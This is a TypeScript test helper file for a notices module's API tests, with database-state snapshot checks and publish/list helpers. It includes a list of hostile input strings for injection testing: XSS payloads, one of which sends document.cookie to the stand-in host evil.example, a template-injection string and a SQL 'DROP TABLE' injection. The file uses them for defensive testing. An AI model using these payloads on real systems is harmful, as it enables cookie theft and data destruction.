import { sql } from 'kysely';
import { expect } from 'vitest';
import type { TestClient } from '../src/testing/index.ts';
import { dbState, type WithDb } from './helpers.ts';

/** Tables of the notices, boards and guides modules (those that exist at this migration level). */
const TABLES = ['notice', 'notice_read'];
export const boardTables = (...more: string[]) => TABLES.push(...more);

/** Row counts and version sums of the board tables plus everything helpers.dbState counts. */
export async function boardState(t: WithDb): Promise<Record<string, number>> {
  const out: Record<string, number> = await dbState(t);
  for (const table of TABLES) {
    const r = await sql<{ n: string }>`SELECT count(*)::text AS n FROM ${sql.table(table)}`.execute(t.database.db);
    out[table] = Number(r.rows[0]!.n);
  }
  return out;
}

/** Runs a request that must be refused and checks no table (board tables included) changed. */
export async function refusedCleanly<T>(t: WithDb, fn: () => Promise<T>): Promise<T> {
  const before = await boardState(t);
  const out = await fn();
  expect(await boardState(t)).toEqual(before);
  return out;
}

export const HOSTILE = [
  '<script>alert(document.cookie)</script>',
  '<img src=x onerror="fetch(`//evil.example/`+document.cookie)">',
  '"><svg/onload=alert(1)>',
  "javascript:alert('x')",
  '{{constructor.constructor("alert(1)")()}}',
  "'; DROP TABLE notice; --",
];

export interface NoticeView {
  id: string;
  nodeId: string;
  nodeName: string;
  level: string;
  category: string;
  title: string;
  excerpt: string;
  body: string;
  pinned: boolean;
  mustRead: boolean;
  expired: boolean;
  withdrawn: boolean;
  unread: boolean;
  confirmed: boolean;
  attachments: string[];
  version: number;
  abilities: { edit: boolean; readRate: boolean; confirm: boolean };
}

export async function publish(c: TestClient, body: Record<string, unknown>): Promise<NoticeView> {
  const res = await c.post<NoticeView>('/api/notices', { category: 'notice', body: '内容', ...body });
  expect(res.status, res.text).toBe(201);
  return res.body;
}

export const noticeIds = async (c: TestClient, q = '') => {
  const res = await c.get<{ items: NoticeView[]; nextCursor: string | null }>(`/api/notices${q}`);
  expect(res.status, res.text).toBe(200);
  return res.body.items.map((n) => n.id);
};
